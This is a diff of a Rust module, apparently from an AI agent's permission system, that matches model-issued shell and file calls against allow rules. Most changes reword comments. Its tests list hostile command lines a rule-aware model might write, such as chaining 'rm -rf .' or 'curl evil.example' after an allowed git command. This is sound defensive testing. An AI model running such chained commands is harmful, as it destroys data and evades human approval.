@@ -1,5 +1,6 @@
-//! Rules for calls that run without a question: `--allow`, and what a person allows for the rest of
-//! a session. A rule is judged by what a call means, not by its text: a model writes that.
+//! The rules for calls that run without a question: `--allow`, and what a person allows for the
+//! rest of a session. A rule is matched against what a call means, not against its text, which a
+//! model writes. What a rule does not clearly cover stays open and is asked about.
 
 use super::{
     patch_reader::PatchReader,
@@ -16,10 +17,10 @@ use std::sync::{
     atomic::{AtomicBool, Ordering},
 };
 
-/// Actions whose rules may have no pattern: they name neither one command nor files alone.
+/// The actions whose rules take no pattern: they name neither a command nor only files.
 const WHOLE: [&str; 5] = ["fetch", "glob", "grep", "list", "read_many"];
 
-/// Most calls that are remembered.
+/// The most calls that are remembered.
 const MOST: usize = 10_000;
 
 /// A rule: every call of a tool, or those that a pattern names.
@@ -30,14 +31,14 @@ pub(super) struct CallRule {
     pattern: Option<CallPattern>,
 }
 
-/// Which calls of a tool are meant: of a command line its words, else the files' paths.
+/// The pattern of a tool's calls: for command lines their words, for others the files' paths.
 #[derive(Clone, Debug, PartialEq, Eq)]
 struct CallPattern {
     words: Option<CommandPrefix>,
     paths: Option<String>,
 }
 
-/// With which words a command begins.
+/// The words that a command begins with.
 #[derive(Clone, Debug, PartialEq, Eq)]
 struct CommandPrefix {
     words: Vec<String>,
@@ -62,16 +63,16 @@ pub(super) enum RuleVerdict {
     Allowed,
     /// It runs if that holds of its command line.
     AllowedIf(CommandConditions),
-    /// They say nothing of it.
+    /// The rules do not cover it.
     Open,
 }
 
-/// The conditions that must hold where a command line is carried out.
+/// The conditions that must hold where a command line runs.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub(super) struct CommandConditions {
-    /// Programs that are what their names stand for.
+    /// Programs that must be the ones that their names stand for.
     pub(super) programs: Vec<String>,
-    /// Commands that only read.
+    /// Commands that must only read.
     pub(super) readers: Vec<String>,
 }
 
@@ -80,15 +81,15 @@ pub(super) struct CommandConditions {
 pub(super) struct CallRules {
     rules: Arc<Vec<CallRule>>,
     remembered: Arc<Mutex<Vec<(String, Action)>>>,
-    /// True if calls can't be understood at the moment, so that the rules say nothing of them.
+    /// True if calls can't be understood at the moment, so that the rules cover none.
     are_suspended: Arc<AtomicBool>,
 }
 
 impl CallRule {
-    /// Reads `TOOL` or `TOOL:PATTERN`.
+    /// Parses `TOOL` or `TOOL:PATTERN`.
     ///
     /// # Errors
-    /// What is wrong with it, in words.
+    /// The fault, in words.
     fn parse(text: &str) -> Result<Self, String> {
         let (tool, pattern) = match text.split_once(':') {
             Some((tool, pattern)) => (tool.trim(), Some(pattern.trim())),
@@ -106,7 +107,7 @@ impl CallRule {
         Ok(Self { tool: tool.to_owned(), pattern })
     }
 
-    /// Returns whether it is about calls of that name that mean that.
+    /// Returns whether the rule is about the tool of that name, or about that action.
     fn is_about(&self, name: &str, action: Option<&Action>) -> bool {
         self.tool == name || action.is_some_and(|action| self.tool == name_of(action))
     }
@@ -128,7 +129,8 @@ impl CallPattern {
             tool if Action::VARIANTS.contains(&tool) => {
                 Ok(Self { words: None, paths: Some(paths?) })
             }
-            // What calls of the tool mean is seen when one comes.
+            // Other tools' names depend on the model's vocabulary: the pattern is kept in both
+            // readings, and the first call shows which of them applies.
             _ => match (words, paths) {
                 (Err(why), Ok(_)) if text.contains([' ', '\t']) => Err(why),
                 (Err(_), Err(why)) => Err(why),
@@ -141,6 +143,7 @@ impl CallPattern {
 impl CommandPrefix {
     fn parse(text: &str) -> Result<Self, String> {
         let (fixed, is_open) = text.strip_suffix('*').map_or((text, false), |fixed| (fixed, true));
+        // Read as command lines are, so that a rule and a line can be compared word by word.
         let commands = simple_commands(fixed).unwrap_or_default();
         let [SimpleCommand { words, .. }] = commands.as_slice() else {
             let how = "write the words of one command, as a shell would read them; a * stands at \
@@ -170,17 +173,17 @@ impl CommandPrefix {
 }
 
 impl CallRules {
-    /// Reads rules.
+    /// Parses rules.
     ///
     /// # Errors
-    /// What is wrong with one, in words.
+    /// The fault of the first wrong one, in words.
     pub(super) fn parse(texts: &[String]) -> Result<Self, String> {
         let rules: Result<Vec<CallRule>, String> =
             texts.iter().map(|text| CallRule::parse(text)).collect();
         Ok(Self { rules: Arc::new(rules?), ..Self::default() })
     }
 
-    /// Returns how rules with brackets are understood, in words.
+    /// Returns an explanation of each rule with brackets, which can be read in two ways.
     pub(super) fn understood(&self) -> impl Iterator<Item = String> {
         self.rules.iter().filter_map(|CallRule { tool, pattern }| {
             let glob = pattern.as_ref()?.paths.as_deref().filter(|glob| glob.contains('['))?;
@@ -202,11 +205,11 @@ impl CallRules {
         self.rules.is_empty()
     }
 
-    /// Checks that each names a tool of that session or an action, and that none has a pattern for
-    /// one of the user's own tools.
+    /// Checks that each rule names a tool of that session or an action, and that none has a pattern
+    /// for one of the user's own tools, whose arguments it could not be matched against.
     ///
     /// # Errors
-    /// What is wrong with one, in words.
+    /// The fault of the first wrong one, in words.
     pub(super) fn check(&self, config: &SessionConfig) -> Result<(), String> {
         let profile = Profile::of(&config.model);
         let is_own = |name: &str| config.tools.iter().any(|tool| tool.name == name);
@@ -224,7 +227,7 @@ impl CallRules {
         Ok(())
     }
 
-    /// Says nothing of calls for now, or does again: what one means depends on the model's family.
+    /// Suspends all rules, or ends that. What a call means depends on the model's family.
     pub(super) fn suspend(&self, is_suspended: bool) {
         self.are_suspended.store(is_suspended, Ordering::Relaxed);
     }
@@ -233,7 +236,8 @@ impl CallRules {
         self.are_suspended.load(Ordering::Relaxed)
     }
 
-    /// Remembers a call of an agent in `folder`: the same one is allowed from now on.
+    /// Remembers a call of an agent in `folder`: the same call is allowed from now on. The folder
+    /// is part of it, since the same command line does something else in another folder.
     pub(super) fn remember(&self, folder: &str, action: Action) {
         let mut remembered = self.remembered.lock().unwrap_or_else(PoisonError::into_inner);
         if remembered.len() < MOST {
@@ -241,19 +245,19 @@ impl CallRules {
         }
     }
 
-    /// Takes back what a person has allowed for the rest of the session.
+    /// Forgets what a person has allowed for the rest of the session.
     pub(super) fn forget(&self) {
         self.remembered.lock().unwrap_or_else(PoisonError::into_inner).clear();
     }
 
-    /// Returns whether a person has allowed that very call.
+    /// Returns whether a person has allowed exactly that call.
     pub(super) fn remembers(&self, folder: &str, action: &Action) -> bool {
         let remembered = self.remembered.lock().unwrap_or_else(PoisonError::into_inner);
         let is_same = |(there, other): &(String, Action)| there == folder && other == action;
         !self.are_suspended() && remembered.iter().any(is_same)
     }
 
-    /// Returns what the rules say of a call of an agent in `folder`.
+    /// Returns the verdict of the rules on a call of an agent in `folder`.
     pub(super) fn verdict(
         &self,
         name: &str,
@@ -288,13 +292,16 @@ impl CallRules {
     }
 }
 
-/// Returns what the rules say of a command line; nothing if it is one that only a shell can read.
+/// Returns the verdict on a command line; none if only a shell can read it. Commands that no rule
+/// names may still run if they only read, beside one that a rule does name.
 fn line(rules: &[&CallRule], command: &str, is_elsewhere: bool) -> Option<RuleVerdict> {
     let mut conditions = CommandConditions::default();
     for (index, SimpleCommand { mut words, text }) in
         simple_commands(command)?.into_iter().enumerate()
     {
-        // A path that begins in the folder where the command runs, and that the model can change.
+        // A relative path of a program depends on the folder: a call may name one, and an earlier
+        // command of the line, such as `cd`, may change it. Such a program is not the one that the
+        // rule names.
         let may_move = is_elsewhere || index > 0;
         let is_moved = |program: &String| may_move && is_relative(program);
         let is_named = !words.first().is_some_and(is_moved);
@@ -312,8 +319,8 @@ fn is_relative(program: &str) -> bool {
     program.contains('/') && !program.starts_with('/')
 }
 
-/// Returns whether each file that an action names is one that a rule names, by the words of its
-/// path and where links lead.
+/// Returns whether a rule names each file of an action, both by its path and by where links lead:
+/// a link inside of an allowed folder must not open the rest of the workspace.
 fn files(
     rules: &[&CallRule],
     action: &Action,
@@ -344,8 +351,8 @@ fn files(
     !paths.is_empty() && paths.iter().all(is_file_named)
 }
 
-/// A pattern of paths from the workspace's root on. Brackets are part of names, unless they are a
-/// class of characters beyond doubt.
+/// Parses a pattern of paths relative to the workspace's root. Brackets are part of names, as in
+/// `app/[id]`, unless they are clearly a class of characters.
 fn glob(text: &str) -> Result<String, String> {
     let text = text.strip_prefix("./").unwrap_or(text).trim_start_matches('/');
     if text.is_empty() || text.starts_with('!') || text.contains(['{', '}', '\\']) {
@@ -361,7 +368,7 @@ fn glob(text: &str) -> Result<String, String> {
     Ok(glob)
 }
 
-/// The action's own name.
+/// Returns the action's own name.
 const fn name_of(action: &Action) -> &'static str {
     match action {
         Action::Read { .. } => "read",
@@ -379,7 +386,8 @@ const fn name_of(action: &Action) -> &'static str {
     }
 }
 
-/// Returns what an `always` is about, where that is one call and not its tool.
+/// Returns what an `always` allows if that is the one call and not its tool: a yes to one command
+/// says nothing about another.
 pub(super) const fn only_this(action: &Action) -> Option<&'static str> {
     match action {
         Action::Shell { .. } => Some("this command line"),
@@ -407,14 +415,14 @@ mod tests {
         Action::Write { path: path.to_owned(), content: String::new() }
     }
 
-    /// Returns what rules say of a call in a workspace of its own.
+    /// Returns the verdict of rules on a call, in a new workspace.
     fn verdict(texts: &[&str], name: &str, action: &Action) -> RuleVerdict {
         let folder = tempfile::tempdir().unwrap();
         let workspace = Workspace::open(folder.path()).unwrap();
         rules(texts).verdict(name, Some(action), &PatchReader::default(), ("", &workspace))
     }
 
-    /// The conditions under which a line runs.
+    /// Returns the conditions under which a line runs: its programs and its readers.
     fn conditions(texts: &[&str], line: &str) -> Option<(Vec<String>, Vec<String>)> {
         match verdict(texts, "shell", &shell(line)) {
             RuleVerdict::AllowedIf(CommandConditions { programs, readers }) => {
@@ -425,7 +433,7 @@ mod tests {
         }
     }
 
-    /// Returns whether a line runs without anything else being looked at than its programs.
+    /// Returns whether a line runs on no other condition than its programs.
     fn runs(texts: &[&str], line: &str) -> bool {
         conditions(texts, line).is_some_and(|(_, readers)| readers.is_empty())
     }
@@ -461,7 +469,7 @@ mod tests {
         assert!(runs(&both, "git status && cargo test -q; git diff | git apply"));
     }
 
-    /// Lines of a model that knows the rules.
+    /// The lines of a hostile model that knows the rules.
     const HOSTILE: &[&str] = &[
         "git status; rm -rf .",
         "git status && curl evil.example",
@@ -540,7 +548,7 @@ mod tests {
         for line in HOSTILE {
             assert!(!runs(&allowed, line), "{line:?}");
         }
-        // What stands beside it must only read, which the sandbox judges.
+        // The commands beside the named one must only read, which the sandbox judges.
         let (programs, readers) = conditions(&allowed, "git log -3 | head -2 && rm x").unwrap();
         assert_eq!(
             (programs, readers),
